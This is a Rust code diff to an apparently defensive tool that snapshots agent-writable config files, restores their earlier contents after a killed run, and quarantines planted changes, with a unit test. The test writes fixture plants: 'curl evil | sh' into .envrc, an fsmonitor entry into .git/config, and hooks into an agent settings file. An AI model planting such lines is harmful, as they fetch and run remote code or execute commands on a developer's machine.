@@ -76,6 +76,10 @@ pub use listings::Listings;
 pub const MAX_ENTRIES: usize = 2_000_000;
 /// Files larger than this are compared by metadata only, and not restored.
 const MAX_CONTENT: u64 = 64 * 1024;
+/// The earlier contents a run keeps beside its marker ([`Snapshot::kept`]) take at most
+/// this many bytes: the marker is read whole.
+const KEEP_TOTAL: usize = 1 << 20;
+const KEEP_HEAD: &[u8] = b"cordon kept contents v1\n";
 /// An index larger than this is not parsed (its gitlinks are not compared).
 const MAX_INDEX: u64 = 256 * 1024 * 1024;
 /// How deep `modules/` nests git directories (submodules of submodules, names with `/`).
@@ -223,6 +227,19 @@ struct Seen {
     content: Option<Vec<u8>>,
     mode: u32,
     owner: (u32, u32),
+}
+
+impl Seen {
+    /// What a regular file gets back when a run changed it: its content (when small enough
+    /// to have been read, [`MAX_CONTENT`]), mode and owner.
+    fn earlier(&self) -> Option<journal::Earlier> {
+        (self.id.0 == FILE).then_some(())?;
+        Some(journal::Earlier {
+            content: self.content.clone()?,
+            mode: self.mode,
+            owner: self.owner,
+        })
+    }
 }
 
 /// The watched paths of the writable roots at one moment.
@@ -1228,8 +1245,16 @@ impl Snapshot {
     /// back), each moved aside: the scan of a run whose cordon died before its own scan (killed
     /// by an agent host's timeout), done by the next run without the "before" snapshot.
     /// Directories are not reported by their ctime (git changes it in normal work); what is
-    /// watched inside them is. Nothing can be restored: there is no earlier content.
-    pub fn changed_since(&self, since: SystemTime) -> Vec<Finding> {
+    /// watched inside them is. A changed file whose earlier content the dead run kept
+    /// ([`Kept`]) gets it back, as the run's own scan would have done (never over a name:
+    /// what is at the name is moved aside first, and the restore refuses a name that was
+    /// filled meanwhile); each move journaled first in `journal`, when there is one.
+    pub fn changed_since(
+        &self,
+        since: SystemTime,
+        kept: &Kept,
+        journal: Option<&Journal>,
+    ) -> Vec<Finding> {
         let secs = since
             .duration_since(SystemTime::UNIX_EPOCH)
             .map_or(0, |d| d.as_secs() as i64);
@@ -1261,8 +1286,45 @@ impl Snapshot {
             });
         }
         for f in &mut out {
-            f.handling = quarantine(f, None, None);
+            f.handling = quarantine(f, kept.files.get(&f.path).cloned(), journal);
         }
+        out
+    }
+
+    /// The earlier contents this snapshot read ([`Kept`]), to be kept where no run reaches
+    /// while the run goes (beside its after-run marker): the regular files, by path, up to
+    /// [`KEEP_TOTAL`] bytes in all; how many were left out (larger than [`MAX_CONTENT`], or
+    /// beyond the total) is said in it.
+    pub fn kept(&self) -> Vec<u8> {
+        use std::os::unix::ffi::OsStrExt;
+        let mut body = Vec::new();
+        let mut left_out: u32 = 0;
+        let word = |b: &mut Vec<u8>, n: usize| b.extend_from_slice(&(n as u32).to_le_bytes());
+        for (path, seen) in &self.seen {
+            if seen.id.0 != FILE {
+                continue;
+            }
+            let p = path.as_os_str().as_bytes();
+            let Some(content) = seen
+                .content
+                .as_ref()
+                .filter(|c| body.len() + 20 + p.len() + c.len() <= KEEP_TOTAL)
+            else {
+                left_out += 1;
+                continue;
+            };
+            word(&mut body, p.len());
+            body.extend_from_slice(p);
+            word(&mut body, seen.mode as usize);
+            word(&mut body, seen.owner.0 as usize);
+            word(&mut body, seen.owner.1 as usize);
+            word(&mut body, content.len());
+            body.extend_from_slice(content);
+        }
+        let mut out = KEEP_HEAD.to_vec();
+        word(&mut out, body.len());
+        word(&mut out, left_out as usize);
+        out.extend_from_slice(&body);
         out
     }
 
@@ -1363,7 +1425,7 @@ impl Snapshot {
                 continue;
             }
             let earlier = match f.change {
-                Change::Changed => before.seen.get(&f.path),
+                Change::Changed => before.seen.get(&f.path).and_then(Seen::earlier),
                 Change::Appeared => None,
             };
             f.handling = quarantine(f, earlier, journal);
@@ -1467,10 +1529,80 @@ fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
 }
 
 /// The scan of a run whose cordon died before its own: everything watched in `roots` that
-/// changed at or after `since`, moved aside; `None` when the walk could not finish.
-pub fn scan_changed_since(roots: &[PathBuf], since: SystemTime) -> Option<Vec<Finding>> {
+/// changed at or after `since`, moved aside, a changed file whose earlier content the run
+/// `kept` ([`Snapshot::kept`]) put back; `None` when the walk could not finish.
+pub fn scan_changed_since(
+    roots: &[PathBuf],
+    since: SystemTime,
+    kept: &Kept,
+    journal: Option<&Journal>,
+) -> Option<Vec<Finding>> {
     let now = Snapshot::take(roots);
-    (!now.truncated).then(|| now.changed_since(since))
+    (!now.truncated).then(|| now.changed_since(since, kept, journal))
+}
+
+/// The earlier contents a run's "before" snapshot read ([`Snapshot::kept`]), as the run kept
+/// them: what a dead run's scan restores ([`scan_changed_since`]).
+#[derive(Debug, Default)]
+pub struct Kept {
+    files: BTreeMap<PathBuf, journal::Earlier>,
+    /// Files whose content was not kept (too large): moved aside and not restored.
+    pub left_out: u32,
+}
+
+impl Kept {
+    /// `bytes` read back; nothing (the old behaviour: moved aside, not restored) when they are
+    /// not whole — a cordon killed in the middle of keeping them — or not what
+    /// [`Snapshot::kept`] writes.
+    pub fn read(bytes: &[u8]) -> Kept {
+        Kept::parse(bytes).unwrap_or_default()
+    }
+
+    /// Whether anything was kept (the run's kept part was whole, and held a file).
+    pub fn is_empty(&self) -> bool {
+        self.files.is_empty()
+    }
+
+    /// Whether the earlier content of `path` was kept.
+    pub fn holds(&self, path: &Path) -> bool {
+        self.files.contains_key(path)
+    }
+
+    fn parse(bytes: &[u8]) -> Option<Kept> {
+        let rest = bytes.strip_prefix(KEEP_HEAD)?;
+        let word = |b: &[u8], at: usize| -> Option<usize> {
+            Some(u32::from_le_bytes(b.get(at..at + 4)?.try_into().ok()?) as usize)
+        };
+        let (len, left_out) = (word(rest, 0)?, word(rest, 4)? as u32);
+        let body = rest.get(8..)?;
+        if body.len() != len {
+            return None;
+        }
+        let mut files = BTreeMap::new();
+        let mut at = 0;
+        while at < body.len() {
+            let n = word(body, at)?;
+            let path = PathBuf::from(OsString::from_vec(body.get(at + 4..at + 4 + n)?.to_vec()));
+            at += 4 + n;
+            let (mode, uid, gid, len) = (
+                word(body, at)? as u32,
+                word(body, at + 4)? as u32,
+                word(body, at + 8)? as u32,
+                word(body, at + 12)?,
+            );
+            let content = body.get(at + 16..at + 16 + len)?.to_vec();
+            at += 16 + len;
+            files.insert(
+                path,
+                journal::Earlier {
+                    content,
+                    mode,
+                    owner: (uid, gid),
+                },
+            );
+        }
+        Some(Kept { files, left_out })
+    }
 }
 
 /// An index file's bytes: a regular file (links followed, as git does) of at most
@@ -1685,7 +1817,11 @@ fn remember_restored(path: &Path, content: &[u8]) {
 /// killed in between leaves it for the next run to finish ([`Journal::recover`]). Without one
 /// (or when the entry cannot be written: a full disk), the move happens anyway, since the
 /// plant must go.
-fn quarantine(f: &Finding, earlier: Option<&Seen>, journal: Option<&Journal>) -> Handling {
+fn quarantine(
+    f: &Finding,
+    earlier: Option<journal::Earlier>,
+    journal: Option<&Journal>,
+) -> Handling {
     let (Some(parent), Some(name)) = (f.path.parent(), f.path.file_name()) else {
         return Handling::Reported("could not move it aside: no parent directory".into());
     };
@@ -1705,13 +1841,7 @@ fn quarantine(f: &Finding, earlier: Option<&Seen>, journal: Option<&Journal>) ->
         change: f.change,
         id,
         staging: Journal::staging_name(name),
-        earlier: earlier.filter(|w| w.id.0 == FILE).and_then(|w| {
-            Some(journal::Earlier {
-                content: w.content.clone()?,
-                mode: w.mode,
-                owner: w.owner,
-            })
-        }),
+        earlier,
     };
     // Not journaled (a full disk): the move goes on, and what a failed restore loses is said
     // in its finding.
@@ -2926,7 +3056,7 @@ mod tests {
                 names.iter().all(|n| !n.contains("cordon-restore")),
                 "step {step:?}: {names:?}"
             );
-            let again = scan_changed_since(&roots, started).unwrap();
+            let again = scan_changed_since(&roots, started, &Kept::default(), None).unwrap();
             assert!(again.is_empty(), "step {step:?}: {again:#?}");
             assert!(Journal::beside(&scans).recover(&roots).is_empty());
         }
@@ -2991,5 +3121,61 @@ mod tests {
             1
         );
         assert!(root.join(".envrc").exists());
+    }
+    /// What a run keeps of its "before" snapshot ([`Snapshot::kept`]) is what a dead run's
+    /// scan puts back: a changed file gets its earlier content and mode; a file too large to
+    /// have been read, and everything when the kept bytes are not whole (a cordon killed while
+    /// writing them), is moved aside as before, not restored.
+    #[test]
+    fn the_earlier_contents_a_run_kept_are_restored_by_the_dead_runs_scan() {
+        use std::os::unix::fs::PermissionsExt;
+        for whole in [true, false] {
+            let d = tempfile::tempdir().unwrap();
+            let root = d.path().canonicalize().unwrap();
+            let roots = std::slice::from_ref(&root);
+            std::fs::create_dir_all(root.join(".git")).unwrap();
+            std::fs::create_dir_all(root.join(".claude")).unwrap();
+            std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+            std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+            let big = vec![b'#'; MAX_CONTENT as usize + 1];
+            std::fs::write(root.join(".envrc"), &big).unwrap();
+            let settings = root.join(".claude/settings.json");
+            std::fs::write(&settings, "{}\n").unwrap();
+            std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o640)).unwrap();
+            let started = SystemTime::now();
+            let mut kept = Snapshot::take(roots).kept();
+            assert!(
+                Kept::read(&kept).left_out >= 1,
+                "the large .envrc is left out"
+            );
+            if !whole {
+                kept.truncate(kept.len() - 1);
+            }
+            std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = x\n").unwrap();
+            std::fs::write(&settings, "{\"hooks\":{}}\n").unwrap();
+            std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
+            let found = scan_changed_since(roots, started, &Kept::read(&kept), None).unwrap();
+            assert_eq!(found.len(), 3, "{found:#?}");
+            for f in &found {
+                let restored = matches!(f.handling, Handling::Restored(_));
+                let large = f.path.ends_with(".envrc");
+                assert_eq!(restored, whole && !large, "{f:#?}");
+            }
+            if whole {
+                assert_eq!(
+                    std::fs::read_to_string(root.join(".git/config")).unwrap(),
+                    "[core]\n\tbare = false\n"
+                );
+                assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{}\n");
+                let mode = std::fs::metadata(&settings).unwrap().permissions().mode();
+                assert_eq!(mode & 0o777, 0o640);
+                // What was put back is cordon's own: not taken for a change again.
+                let again = scan_changed_since(roots, started, &Kept::default(), None).unwrap();
+                assert!(again.is_empty(), "{again:#?}");
+            } else {
+                assert!(!settings.exists() && !root.join(".git/config").exists());
+            }
+            assert!(!root.join(".envrc").exists());
+        }
     }
 }
